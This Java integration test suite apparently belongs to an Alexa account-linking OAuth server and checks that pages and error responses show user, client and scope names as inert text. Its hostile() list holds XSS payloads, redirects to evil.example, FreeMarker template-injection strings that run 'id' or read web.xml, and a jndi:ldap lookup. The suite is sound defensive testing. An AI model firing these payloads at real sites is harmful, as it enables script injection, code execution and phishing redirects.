package io.github.alexalink.page;

import static io.github.alexalink.fixture.servers.TestDatabase.PASSWORD;
import static org.assertj.core.api.Assertions.assertThat;

import io.github.alexalink.config.Usernames;
import io.github.alexalink.fixture.alexa.Alexa;
import io.github.alexalink.fixture.alexa.Cases;
import io.github.alexalink.fixture.cases.UnderAttack;
import io.github.alexalink.fixture.servers.TestDatabase;
import java.net.URI;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

@DisplayName("A page shows the text of strangers and DBAs as text, whatever is in it")
class InertPagesIT extends UnderAttack {

    private static final String HARMLESS = "harmless";
    /** A password so long that no hash is made. */
    private static final String TOO_LONG = "nobodys password ".repeat(60);

    private static final Pattern TAG = Pattern.compile("<[^>]*>");

    private final Cases cases = Cases.of("markup and templates in what is shown");

    static String[] hostile() {
        return new String[] {
            "<script>alert(1)</script>",
            "</title></h1><script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "' onfocus='alert(1)' autofocus='",
            "\" autofocus onfocus=\"alert(1)",
            "--><svg/onload=alert(1)>",
            "</form><form action=https://evil.example>",
            "<meta http-equiv=refresh content=0;url=//evil.example>",
            "<a href=javascript:alert(1)>x</a>",
            "javascript:alert(1)//",
            "&lt;script&gt;&#x6a;&amp;",
            "${7*7}#{7*7}[=7*7]",
            "<#assign x=\"freemarker.template.utility.Execute\"?new()>${x(\"id\")}",
            "<#list 1..7 as i>7</#list><#include \"/WEB-INF/web.xml\">",
            "<@layout.page title=\"x\"/>[#if true]49[/#if]",
            "${.data_model}${settings?api.class}${.now}",
            "{0}{1,number}'{2}' %s %n ${jndi:ldap://evil.example/x}",
            "*{7*7}@{7*7}{{7*7}}<%= 7*7 %>",
            "\u202emocy\ufeff\u2028\u0645\u0648\u0633",
            "</script><!--<script>",
        };
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void a_hostile_state_or_user_name_is_shown_as_text(String hostile) {
        HttpResponse<String> page = alexa.authorize(with("state", hostile));
        assertInert(page, alexa.authorize(with("state", HARMLESS)), hostile);
        assertThat(Alexa.hidden(page.body())).containsEntry("state", hostile);

        HttpResponse<String> again = alexa.press(alexa.authorize(), "allow", hostile, TOO_LONG);
        cases.askedAgain(again, WRONG);
        String name = Usernames.tidied(hostile);
        assertInert(again, alexa.press(alexa.authorize(), "allow", HARMLESS, TOO_LONG), name);
        assertInert(links(hostile, TOO_LONG), links(HARMLESS, TOO_LONG), name);
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void a_hostile_name_of_a_client_or_scope_is_shown_as_text_in_the_listeners_language_too(String hostile) {
        String scope = TestDatabase.unique("scope");
        Map<String, String> request = with("scope", scope);
        name(HARMLESS, scope);
        HttpResponse<String> harmless = alexa.authorize(request);
        HttpResponse<String> harmlessGerman = inGerman(request);
        name(hostile, scope);
        assertInert(alexa.authorize(request), harmless, hostile);
        assertInert(inGerman(request), harmlessGerman, hostile);
    }

    @Test
    void the_page_of_linked_apps_shows_hostile_names_as_text() {
        String berta = "\"><img src=x onerror=alert(1)>" + TestDatabase.unique("berta");
        TestDatabase.addAccount(berta, PASSWORD);
        List<Alexa> skills = new ArrayList<>();
        List<String> scopes = new ArrayList<>();
        for (int i = 0; i < hostile().length; i++) {
            skills.add(Alexa.skill(ISSUER));
            scopes.add(TestDatabase.unique("scope"));
        }
        for (int i = 0; i < hostile().length; i++) {
            alexa = skills.get(i);
            name(HARMLESS, scopes.get(i));
            alexa.linked(berta);
            TestDatabase.change(
                    "UPDATE alexa.link SET scope = ARRAY[?] WHERE client_id = ?", scopes.get(i), alexa.clientId());
        }
        HttpResponse<String> harmless = links(berta, PASSWORD);
        for (int i = 0; i < hostile().length; i++) {
            alexa = skills.get(i);
            name(hostile()[i], scopes.get(i));
        }
        HttpResponse<String> page = links(berta, PASSWORD);
        assertThat(harmless.body()).contains(HARMLESS);
        for (String hostile : hostile()) {
            cases.fine(page, 200);
            assertThat(skeleton(page.body())).isEqualTo(skeleton(harmless.body()));
            assertThat(read(page.body())).contains(hostile, berta);
        }
    }

    @ParameterizedTest
    @MethodSource("hostile")
    void no_page_that_says_what_is_wrong_repeats_what_was_sent(String hostile) {
        for (String name : new String[] {"client_id", "redirect_uri"}) {
            HttpResponse<String> page = alexa.authorize(with(name, hostile));
            cases.page(page, 400, "This link does not work");
            assertThat(page.body()).doesNotContain(hostile, "alert(1)", "7*7", "evil", "mocy");
        }
        HttpResponse<String> back = alexa.authorize(with("scope", hostile));
        cases.redirected(back, Alexa.PITANGUI, "invalid_scope");
        assertThat(Alexa.location(back)).doesNotContain("alert", "evil", "mocy");
    }

    private void name(String name, String scope) {
        TestDatabase.ask("SELECT 'done', alexa.describe_scope(?, ?)", scope, name);
        TestDatabase.change(
                "INSERT INTO alexa.client_scope (client_id, scope) VALUES (?, ?) ON CONFLICT DO NOTHING",
                alexa.clientId(),
                scope);
        TestDatabase.change("UPDATE alexa.client SET display_name = ? WHERE client_id = ?", name, alexa.clientId());
        TestDatabase.ask("SELECT 'done', alexa.name_client(?, 'de', ?)", alexa.clientId(), name);
        TestDatabase.ask("SELECT 'done', alexa.describe_scope(?, ?, 'de')", scope, name);
    }

    private HttpResponse<String> inGerman(Map<String, String> request) {
        return Alexa.send(HttpRequest.newBuilder(URI.create(ISSUER + "/authorize?" + Alexa.encoded(request)))
                .header("Accept-Language", "de")
                .build());
    }

    private HttpResponse<String> links(String username, String password) {
        return alexa.post(
                "/links",
                Alexa.encoded(Map.of("action", "show", "username", username, "password", password)),
                Map.of());
    }

    /**
     * Asserts that a page has the same tags and attributes as with a harmless word, and shows the hostile one as text.
     */
    private void assertInert(HttpResponse<String> page, HttpResponse<String> harmless, String hostile) {
        cases.fine(page, 200);
        assertThat(skeleton(page.body())).isEqualTo(skeleton(harmless.body()));
        assertThat(count(read(page.body()), hostile)).isEqualTo(count(read(harmless.body()), HARMLESS));
        assertThat(page.headers().map().toString()).doesNotContain("evil", "alert");
    }

    private static String skeleton(String page) {
        StringBuilder tags = new StringBuilder();
        Matcher tag = TAG.matcher(page);
        while (tag.find()) {
            tags.append(tag.group().replaceAll("\"[^\"]*\"", "\"\"")).append('\n');
        }
        return tags.toString();
    }

    private static int count(String text, String wanted) {
        return text.split(Pattern.quote(wanted), -1).length - 1;
    }

    private static String read(String page) {
        return page.replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&quot;", "\"")
                .replace("&#39;", "'")
                .replace("&amp;", "&")
                .replaceAll("[\u2068\u2069]", "");
    }
}
